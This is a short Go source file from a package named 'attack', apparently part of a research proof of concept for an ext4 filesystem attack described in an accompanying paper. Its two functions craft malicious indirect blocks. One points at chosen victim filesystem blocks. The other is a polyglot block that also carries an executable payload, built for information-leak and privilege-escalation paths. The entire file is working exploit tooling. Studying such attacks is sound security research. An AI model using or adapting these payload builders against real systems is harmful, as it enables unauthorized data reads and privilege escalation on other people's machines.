package attack

import (
	"encoding/binary"
	"errors"
)

// MaxPointerTargets is the fan-out of one indirect block.
const MaxPointerTargets = 4096 / 4

// CraftPointerBlock builds a malicious single-indirect block whose slots
// point at the given victim filesystem blocks. Unused slots stay zero
// (holes). It is the payload half of the ext4 indirect-block victim:
// sprayed as file *data*, dereferenced as *metadata* after a useful
// translation flip (§3.2 polyglot blocks).
func CraftPointerBlock(targets []uint32) ([]byte, error) {
	if len(targets) > MaxPointerTargets {
		return nil, errors.New("attack: too many pointer targets")
	}
	blk := make([]byte, 4096)
	for i, t := range targets {
		binary.LittleEndian.PutUint32(blk[i*4:], t)
	}
	return blk, nil
}

// CraftPolyglot builds a block that is simultaneously a valid pointer
// array (first len(targets) slots) and an executable payload: the marker
// plus payload occupy the tail, beyond the pointer slots a file read
// would dereference. One sprayed block thus serves the information-leak
// and privilege-escalation paths at once (§3.2: blocks "that are valid
// as executable code, file data, and file metadata").
func CraftPolyglot(targets []uint32, marker string, payload []byte) ([]byte, error) {
	if len(targets) > 512 {
		return nil, errors.New("attack: polyglot pointer area limited to 512 targets")
	}
	blk, err := CraftPointerBlock(targets)
	if err != nil {
		return nil, err
	}
	tail := blk[2048:]
	if len(marker)+len(payload) > len(tail) {
		return nil, errors.New("attack: payload too large")
	}
	copy(tail, marker)
	copy(tail[len(marker):], payload)
	return blk, nil
}
